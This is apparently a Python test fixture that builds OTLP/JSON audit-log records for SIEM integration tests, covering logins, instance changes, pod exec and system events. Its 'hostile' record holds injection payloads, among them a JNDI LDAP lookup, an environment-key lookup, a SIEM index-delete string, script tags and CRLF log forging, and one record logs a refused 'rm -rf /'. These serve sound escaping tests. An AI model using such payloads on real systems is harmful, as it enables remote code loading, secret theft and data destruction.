"""Twenty-one records to show what each SIEM is sent: every kind there is, and every attribute of docs/record.md.

As the Collector takes them, OTLP/JSON, and the same in each run. The library escapes what is in `hostile` before it
sends anything; it stands here as another sender could have written it.
"""

from __future__ import annotations

import hashlib
import hmac
from typing import Any

from tests.integration.gateway import BEGIN_NS, record

SECOND_NS = 1_000_000_000

_SEVERITIES = {"success": (9, "INFO"), "failure": (13, "WARN"), "unknown": (13, "WARN")}
_ERROR = (17, "ERROR")


def _by(actor: str | None, kind: str) -> dict[str, Any]:
    of_user = {"user.email" if "@" in str(actor) else "user.id": actor} if kind == "user" else {}
    return {**({} if actor is None else {"audit.actor.id": actor}), "audit.actor.type": kind, **of_user}


def _from(
    address: str, peer: str | None = "10.0.0.1", rule: str = "trusted_proxies", *, suspect: bool = False
) -> dict[str, Any]:
    return {
        "client.address": address,
        **({} if peer is None else {"network.peer.address": peer}),
        "audit.source_ip.rule": rule,
        "audit.source_ip.suspect": suspect,
    }


def _upon(kind: str, target: str) -> dict[str, Any]:
    return {"audit.resource": f"{kind}/{target}", "audit.target.type": kind, "audit.target.id": target}


def _http(method: str, path: str, status: int, route: str = "") -> dict[str, Any]:
    return {
        "http.request.method": method,
        **({"http.route": route} if route else {}),
        "url.path": path,
        "http.response.status_code": status,
        "user_agent.original": "curl/8.5.0",
    }


def _output(name: str, head: str, cut: str = "", masked: int = 0) -> dict[str, Any]:
    whole = head + cut
    found: dict[str, Any] = {
        f"audit.exec.{name}.text": head,
        f"audit.exec.{name}.length": len(whole),
        f"audit.exec.{name}.truncated": bool(cut),
    }
    if not masked:
        return {**found, f"audit.exec.{name}.sha256": _sha256(whole)}
    keyed = hmac.new(b"a key of nobody", whole.encode(), "sha256").hexdigest()
    return {**found, f"audit.exec.{name}.hmac_sha256": keyed, f"audit.exec.{name}.masked": masked}


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


ALICE = _by("alice@example.com", "user")
ANONYMOUS = _by(None, "anonymous")
ITSELF = _by("tron_audit_otel", "system")
AUDIT = _upon("audit", "trail")
OFFICE = _from("192.0.2.7")
MASKED = "[masked:946b683544b82451]"
INSTANCE = _upon("instances", "abc-123")
INSTANCE_ROUTE = "/api/v1/instances/{instance_id}"
INSTANCE_PATH = "/api/v1/instances/abc-123"
POD = _upon("pods", "web-0")
EXEC_PATH = "/api/v1/pods/web-0/exec"
EXEC_ROUTE = "/api/v1/pods/{name}/exec"

# What a client would write to break out of its field, its line, its document or its search.
HOSTILE = 'a"b\\c\r\nDELETE users/1\x00\x1b[2J\x7f\u0085\u2028\u202e\ufeff\U0001f4a9'
JSON_WITHIN = '"}],"audit.actor.id":"root","event":{"outcome":"success"},"x":[{"y":"${env:DD_API_KEY}'

# Each: event name, sentence, attributes. The outcome gives the severity, a 5xx makes it ERROR.
_FACTS: dict[str, tuple[str, str, dict[str, Any]]] = {
    "create": (
        "tron.audit.request",
        "alice@example.com CREATE instances from 192.0.2.7: success (201)",
        {
            **ALICE,
            "audit.action": "CREATE",
            "audit.resource": "instances",
            "audit.target.type": "instances",
            "audit.outcome": "success",
            **OFFICE,
            **_http("POST", "/api/v1/instances", 201, "/api/v1/instances"),
        },
    ),
    "read": (
        "tron.audit.request",
        "u-17 READ instances/abc-123 from 2001:db8::7: success (200)",
        {
            **_by("u-17", "user"),
            "audit.action": "READ",
            **INSTANCE,
            "audit.outcome": "success",
            **_from("2001:db8::7", None, "server", suspect=True),
            **_http("GET", INSTANCE_PATH, 200, INSTANCE_ROUTE),
        },
    ),
    "update": (
        "tron.audit.request",
        "token:ci UPDATE instances/abc-123 from 192.0.2.7: success (200)",
        {
            **_by("token:ci", "token"),
            "audit.action": "UPDATE",
            **INSTANCE,
            "audit.outcome": "success",
            **OFFICE,
            **_http("PATCH", INSTANCE_PATH, 200, INSTANCE_ROUTE),
            "http.request.header.x-request-id": ["7f3a"],
            "http.request.header.x-forwarded-for": ["203.0.113.9", "198.51.100.4"],
        },
    ),
    "delete": (
        "tron.audit.request",
        "reaper DELETE instances/abc-123: success (204)",
        {
            **_by("reaper", "service"),
            "audit.action": "DELETE",
            **INSTANCE,
            "audit.outcome": "success",
            "audit.source_ip.rule": "none",
            "audit.source_ip.suspect": False,
            **_http("DELETE", INSTANCE_PATH, 204, INSTANCE_ROUTE),
        },
    ),
    "delete-refused": (
        "tron.audit.request",
        "anonymous DELETE instances/abc-123 from 192.0.2.7: failure (401)",
        {
            **ANONYMOUS,
            "audit.action": "DELETE",
            **INSTANCE,
            "audit.outcome": "failure",
            **OFFICE,
            **_http("DELETE", INSTANCE_PATH, 401, INSTANCE_ROUTE),
        },
    ),
    "crash": (
        "tron.audit.request",
        "alice@example.com UPDATE instances/abc-123 from 192.0.2.7: failure (500, ZeroDivisionError)",
        {
            **ALICE,
            "audit.action": "UPDATE",
            **INSTANCE,
            "audit.outcome": "failure",
            "error.type": "ZeroDivisionError",
            **OFFICE,
            **_http("PUT", INSTANCE_PATH, 500, INSTANCE_ROUTE),
        },
    ),
    "login": (
        "tron.audit.request",
        "alice@example.com LOGIN users/alice@example.com from 192.0.2.7: success (200)",
        {
            **ALICE,
            "audit.action": "LOGIN",
            **_upon("users", "alice@example.com"),
            "audit.outcome": "success",
            **OFFICE,
            **_http("POST", "/auth/login", 200, "/auth/login"),
        },
    ),
    "login-refused": (
        "tron.audit.request",
        "anonymous (claimed mallory@example.com) LOGIN users/mallory@example.com from 198.51.100.66: failure (401)",
        {
            **ANONYMOUS,
            "audit.actor.claimed": "mallory@example.com",
            "audit.action": "LOGIN",
            **_upon("users", "mallory@example.com"),
            "audit.outcome": "failure",
            **_from("198.51.100.66", rule="proxy_hops"),
            **_http("POST", "/auth/login", 401, "/auth/login"),
        },
    ),
    "logout": (
        "tron.audit.request",
        "alice@example.com LOGOUT users/alice@example.com from 192.0.2.7: success (204)",
        {
            **ALICE,
            "audit.action": "LOGOUT",
            **_upon("users", "alice@example.com"),
            "audit.outcome": "success",
            **OFFICE,
            **_http("POST", "/auth/logout", 204, "/auth/logout"),
        },
    ),
    "exec": (
        "tron.audit.exec",
        "alice@example.com EXEC pods/web-0 from 192.0.2.7: success (200)",
        {
            **ALICE,
            "audit.action": "EXEC",
            **POD,
            "audit.outcome": "success",
            **OFFICE,
            **_http("POST", EXEC_PATH, 200, EXEC_ROUTE),
            "process.command_args": ["/bin/ls", "-l", "/srv/my files"],
            "container.name": "app",
            "process.exit.code": 0,
            **_output("stdout", "total 0\n"),
            **_output("stderr", ""),
        },
    ),
    "exec-failed": (
        "tron.audit.exec",
        "alice@example.com EXEC pods/web-0 from 192.0.2.7: failure (200, exit 137, exec_error)",
        {
            **ALICE,
            "audit.action": "EXEC",
            **POD,
            "audit.outcome": "failure",
            "error.type": "exec_error",
            "error.message": "killed: out of memory",
            **OFFICE,
            **_http("POST", EXEC_PATH, 200, EXEC_ROUTE),
            "process.command_args": ["sh", "-c", f"PGPASSWORD={MASKED} psql | tail …"],
            "audit.exec.command.truncated": True,
            "audit.exec.command.masked": 1,
            "container.name": "app",
            "process.exit.code": 137,
            **_output("stdout", f"password={MASKED} token={MASKED}…", cut="0" * 9_000, masked=2),
            **_output("stderr", f"password={MASKED}\nKilled\n", masked=1),
        },
    ),
    "exec-refused": (
        "tron.audit.exec",
        "token:ci EXEC pods/web-0 from 192.0.2.7: failure (403)",
        {
            **_by("token:ci", "token"),
            "audit.action": "EXEC",
            **POD,
            "audit.outcome": "failure",
            **OFFICE,
            **_http("POST", EXEC_PATH, 403, EXEC_ROUTE),
            "process.command_args": ["rm", "-rf", "/"],
            "container.name": "app",
        },
    ),
    "websocket": (
        "tron.audit.request",
        "u-17 READ pods/web-0 from 192.0.2.7: unknown (101, client_disconnected)",
        {
            **_by("u-17", "user"),
            "audit.action": "READ",
            **POD,
            "audit.outcome": "unknown",
            "error.type": "client_disconnected",
            **OFFICE,
            **_http("GET", "/ws/pods/web-0/logs", 101, "/ws/pods/{name}/logs"),
            "audit.websocket.close_code": 1006,
        },
    ),
    "not-found": (
        "tron.audit.request",
        "anonymous OTHER .env from 203.0.113.9: failure (404)",
        {
            **ANONYMOUS,
            "audit.action": "OTHER",
            "audit.resource": ".env",
            "audit.outcome": "failure",
            **_from("203.0.113.9", "203.0.113.9", "peer"),
            **_http("_OTHER", "/.env", 404),
            "http.request.method_original": "BREW",
        },
    ),
    "fact": (
        "tron.audit.event",
        "system DELETE backups/42: success",
        {**_by(None, "system"), "audit.action": "DELETE", **_upon("backups", "42"), "audit.outcome": "success"},
    ),
    "start": (
        "tron.audit.system",
        "tron_audit_otel START audit/trail: success",
        {
            **ITSELF,
            "audit.action": "START",
            **AUDIT,
            "audit.outcome": "success",
            "audit.system.commit": "batch",
            "audit.system.on_full": "drop",
            "audit.system.trusted_proxies": ["10.0.0.0/8", "2001:db8::1/128", "unix"],
            "audit.system.proxy_hops": 2,
            "audit.system.proxy_header": "x-forwarded-for",
            "audit.policy.sha256": _sha256("this policy"),
        },
    ),
    "policy-change": (
        "tron.audit.system",
        "tron_audit_otel POLICY_CHANGE audit/trail: success",
        {
            **ITSELF,
            "audit.action": "POLICY_CHANGE",
            **AUDIT,
            "audit.outcome": "success",
            "audit.policy.sha256": _sha256("this policy"),
            "audit.policy.previous_sha256": _sha256("the policy before"),
        },
    ),
    "adopt": (
        "tron.audit.system",
        "tron_audit_otel ADOPT audit/trail: success",
        {
            **ITSELF,
            "audit.action": "ADOPT",
            **AUDIT,
            "audit.outcome": "success",
            "audit.system.journal": "20260921T140640-4242-5f3a",
            "audit.system.records": 12,
            "audit.system.clean_stop": False,
        },
    ),
    "loss": (
        "tron.audit.system",
        "tron_audit_otel LOSS audit/trail: failure (disk_full)",
        {
            **ITSELF,
            "audit.action": "LOSS",
            **AUDIT,
            "audit.outcome": "failure",
            "audit.system.records": 7,
            "audit.system.reason": "disk_full",
        },
    ),
    "hostile": (
        "tron.audit.exec",
        f"{HOSTILE} EXEC {JSON_WITHIN} from testclient: failure (404)",
        {
            **_by(HOSTILE, "user"),
            "audit.actor.claimed": JSON_WITHIN,
            "audit.action": "EXEC",
            "audit.resource": JSON_WITHIN,
            "audit.target.type": "\u202egnp.exe",
            "audit.target.id": "x" * 1_024,
            "audit.outcome": "failure",
            **_from("testclient", "unix:/run/api.sock", "peer", suspect=True),
            **_http("POST", "/..%2f%0A%E2%80%AE%3Cscript%3E", 404),
            "user_agent.original": "${jndi:ldap://203.0.113.9/a} | delete index=* <script>",
            "http.request.header.x-request-id": [HOSTILE],
            "process.command_args": ["sh", "-c", JSON_WITHIN, "", "a b\tc\n"],
            **_output("stdout", HOSTILE),
            "audit.truncated": ["audit.target.id"],
        },
    ),
    # What no record is without.
    "bare": ("tron.audit.request", "anonymous READ /: success", {**ANONYMOUS, "audit.action": "READ"}),
}


def _record(number: int, event: str, sentence: str, facts: dict[str, Any]) -> dict[str, Any]:
    attributes = {
        "audit.record.id": f"00000000-0000-4000-8000-{number:012}",
        "audit.schema.version": "1.0",
        "audit.sequence.number": number,
        **facts,
    }
    if "audit.outcome" in facts:
        attributes["audit.duration_ms"] = 0.0 if event == "tron.audit.event" else 12.5
    else:
        del attributes["audit.schema.version"], attributes["audit.sequence.number"]
    severity_number, severity_text = _SEVERITIES[facts.get("audit.outcome", "success")]
    if facts.get("http.response.status_code", 0) >= 500:
        severity_number, severity_text = _ERROR
    began = BEGIN_NS + number * SECOND_NS
    made = {
        **record(attributes, event, sentence),
        "timeUnixNano": str(began),
        "observedTimeUnixNano": str(began + int(attributes.get("audit.duration_ms", 0) * 1_000_000)),
        "severityNumber": severity_number,
        "severityText": severity_text,
    }
    if "http.request.method" not in facts:  # outside any request there is no span
        del made["traceId"], made["spanId"]
    return made


RECORDS: dict[str, dict[str, Any]] = {
    name: _record(number, *parts) for number, (name, parts) in enumerate(_FACTS.items(), start=1)
}
"""Each record as OTLP/JSON, by what it shows."""
